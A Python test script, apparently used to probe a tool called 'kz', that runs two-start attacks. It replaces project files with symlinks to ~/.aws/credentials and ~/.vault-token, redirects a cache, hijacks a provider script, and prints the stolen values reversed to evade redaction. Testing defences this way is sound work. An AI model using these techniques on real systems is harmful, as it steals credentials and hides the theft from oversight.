# Attacks that need two starts of kz: the first program leaves something where it may write, for kz to stumble over at the next start.
# again.py plant|reap HOME PROJECT MARK; what it reads is printed, the world looks for the rest.
import os
import shutil
import sys


def link_what_is_readable():
    os.unlink(f"{project}/.env.test")
    os.symlink("../.aws/credentials", f"{project}/.env.test")


def link_what_is_exposed():
    os.unlink(f"{project}/client.pem")
    os.symlink("../.vault-token", f"{project}/client.pem")


def link_a_cache():
    shutil.rmtree(f"{home}/.yarn/berry/cache")
    os.symlink(f"{home}/dotfiles", f"{home}/.yarn/berry/cache")


def move_the_folder_of_a_hidden_file():
    os.rename(f"{project}/config", f"{project}/elsewhere")
    os.mkdir(f"{project}/config")
    with open(f"{project}/config/secret.txt", "w") as file:
        file.write("nothing of value")


def change_the_program_of_a_provider():
    with open(f"{project}/scripts/token.sh", "w") as file:
        file.write(f"#!/bin/sh\necho '{mark}' > '{home}/ran-by-kz'\necho nothing of value\n")


def write_where_the_cache_leads():
    with open(f"{home}/dotfiles/written", "w") as file:
        file.write(mark)


def tell(name, text):
    """Backwards: kz takes values that it knows out of what a program prints."""
    print(f"{name}: {text.strip()[::-1]}")


def read(name, path):
    with open(path) as file:
        tell(name, file.read())


ROUNDS = {
    "plant": (link_what_is_readable, link_what_is_exposed, link_a_cache, move_the_folder_of_a_hidden_file, change_the_program_of_a_provider),
    "reap": (
        write_where_the_cache_leads,
        lambda: tell("exposed", os.environ.get("CERTIFICATE", "")),
        lambda: read("link", f"{project}/.env.test"),
        lambda: read("moved", f"{project}/elsewhere/secret.txt"),
    ),
}
_, round_name, home, project, mark = sys.argv
for step in ROUNDS[round_name]:
    try:
        step()
    except OSError as error:
        print(f"error: {error}")
